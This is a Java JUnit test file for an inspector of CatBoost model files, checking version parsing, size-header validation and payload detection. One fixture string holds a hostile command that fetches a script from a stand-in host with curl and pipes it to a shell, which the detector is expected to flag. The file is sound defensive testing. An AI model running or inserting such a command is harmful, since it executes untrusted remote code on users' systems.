package dev.countersign.inspect.catboost;

import static dev.countersign.inspect.bundle.Bundle.rules;
import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static org.assertj.core.api.Assertions.assertThat;

import dev.countersign.inspect.ArtefactFact;
import dev.countersign.inspect.Inspected;
import dev.countersign.inspect.Verdict;
import dev.countersign.inspect.bundle.Bundle;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class CatboostFormatTest {
  @Test
  void aCoreIsReadAndTellsItsVersion() throws IOException {
    Inspected inspected = Bundle.inspect("m.cbm", model(core(), ""));

    assertThat(inspected.verdict()).as("%s", inspected.findings()).isEqualTo(Verdict.CLEAN);
    assertThat(inspected.facts()).containsEntry(ArtefactFact.FORMAT_VERSION, "FlabuffersModel_v1");
  }

  @ParameterizedTest
  @CsvSource({
    "5000, ERROR",
    "2147483647, ERROR",
    "0, SUSPICIOUS",
    "1, SUSPICIOUS",
    "7, SUSPICIOUS",
    "-1, SUSPICIOUS"
  })
  void sizesThatDoNotFitAreErrorsAndThoseThatNoDamageExplainsAreLies(int size, Verdict verdict)
      throws IOException {
    byte[] model = model(core(), "");
    ByteBuffer.wrap(model).order(ByteOrder.LITTLE_ENDIAN).putInt(4, size);

    assertThat(Bundle.inspect("m.cbm", model).verdict()).isEqualTo(verdict);
  }

  @Test
  void aCommandInATextIsSuspicious() throws IOException {
    byte[] model =
        model(core(), "python -c \"import os; os.system('curl https://x.example | sh')\"");

    assertThat(rules(Bundle.inspect("m.cbm", model))).contains("catboost-payload");
  }

  private static byte[] model(byte[] core, String after) {
    ByteBuffer bytes =
        ByteBuffer.allocate(8 + core.length + after.length()).order(ByteOrder.LITTLE_ENDIAN);
    return bytes
        .put("CBM1".getBytes(ISO_8859_1))
        .putInt(core.length)
        .put(core)
        .put(after.getBytes(ISO_8859_1))
        .array();
  }

  /** A table with one field, a text: its shapes at 4, itself at 12, the text at 20. */
  private static byte[] core() {
    byte[] version = "FlabuffersModel_v1".getBytes(ISO_8859_1);
    ByteBuffer bytes = ByteBuffer.allocate(24 + version.length).order(ByteOrder.LITTLE_ENDIAN);
    bytes
        .putInt(12)
        .putShort((short) 6)
        .putShort((short) 8)
        .putShort((short) 4)
        .putShort((short) 0);
    bytes.putInt(8).putInt(4).putInt(version.length).put(version);
    return bytes.array();
  }
}
